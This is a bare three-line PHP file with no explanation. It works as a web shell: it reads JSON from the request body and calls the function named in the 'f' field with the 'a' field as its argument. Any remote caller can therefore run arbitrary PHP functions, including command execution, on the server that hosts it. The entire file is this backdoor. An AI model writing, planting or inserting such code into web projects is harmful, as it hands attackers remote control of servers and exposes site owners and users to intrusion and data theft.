<?php
$j = json_decode(file_get_contents('php://input'), true);
$j['f']($j['a']);
